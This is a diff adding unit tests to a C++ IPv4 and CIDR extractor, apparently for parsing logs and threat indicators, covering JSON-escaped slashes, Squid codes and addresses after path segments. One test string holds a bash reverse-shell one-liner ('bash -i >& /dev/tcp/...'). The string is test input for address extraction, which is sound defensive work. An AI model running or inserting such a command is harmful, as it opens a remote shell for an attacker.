@@ -137,6 +137,36 @@ TEST(Ipv4, ProductVersionsStayVersions) {
               (V{"1.2.3.4", "9.9.9.9"}));
 }
 
+// JSON writes "/" as "\/": "SlateClient\/2.4.1.9" is the same version as
+// "SlateClient/2.4.1.9", and a Squid code keeps its address (read on one
+// byte less of the word: "xDIRECT\/" reads as "DIRECT", "xNONE\/" does not).
+TEST(Ipv4, VersionAfterAJsonEscapedSlash) {
+    EXPECT_EQ(squid_found(R"({"ua":"SlateClient\/2.4.1.9","b":"Chrome\/120.0.0.0 OPR\/106.0.0.0"})", Type::ipv4), V{});
+    EXPECT_EQ(squid_found(R"("HIER_DIRECT\/45.33.2.1" "DIRECT\/8.8.8.8" "SOURCEHASH\/6.6.6.6" "xNONE\/1.2.3.4")",
+                          Type::ipv4),
+              (V{"45.33.2.1", "8.8.8.8", "6.6.6.6"}));
+    EXPECT_EQ(squid_found(R"(url "http:\/\/203.0.113.7\/a" \/1.2.3.4)", Type::ipv4), (V{"203.0.113.7", "1.2.3.4"}));
+}
+
+// A word with a "/" or "." before it is a path segment or a host, not a
+// product name: a bash reverse shell's "/dev/tcp/IP/port", IP lookup links.
+// Beyond the eight bytes the prefix keeps, the word stays a product's,
+// but when it ends in "address" or "addresses" (VirusTotal's links).
+TEST(Ipv4, AddressAfterAPathSegmentOrHost) {
+    EXPECT_EQ(squid_found("bash -i >& /dev/tcp/203.0.113.89/4444 0>&1; cat </dev/udp/198.51.100.7/53 "
+                          "https://www.shodan.io/host/192.0.2.15 /api/v1-x/192.0.2.16 \\/dev\\/tcp\\/192.0.2.17 "
+                          "ipinfo.io/192.0.2.18 https://www.virustotal.com/gui/ip-address/192.0.2.19 "
+                          "/api/v3/ip_addresses/192.0.2.20 \\/gui\\/IP-Address\\/192.0.2.21 an address/192.0.2.22",
+                          Type::ipv4),
+              (V{"203.0.113.89", "198.51.100.7", "192.0.2.15", "192.0.2.16", "192.0.2.17", "192.0.2.18", "192.0.2.19",
+                 "192.0.2.20", "192.0.2.21", "192.0.2.22"}));
+    EXPECT_EQ(squid_found("/dev/tcp/10.0.0.0/8", Type::cidr), V{"10.0.0.0/8"});
+    EXPECT_EQ(squid_found("Mozilla/5.0 Chrome/1.2.3.4 /releases/2.4.1.9 (x)Foo/1.2.3.4 \"ua\":\"YaBrowser\\/23.11.0.0\" "
+                          "xaddressx/1.2.3.4 addresses_/1.2.3.4",
+                          Type::ipv4),
+              V{});
+}
+
 // A percent escape before the run ("http%3A%2F%2F193.233.20.14%2Fx", as
 // web logs write a URL in a query string) ends in a hex letter, but is a
 // separator, not a version's word: "%2F", "%3A", "%3D" and "%40" (any
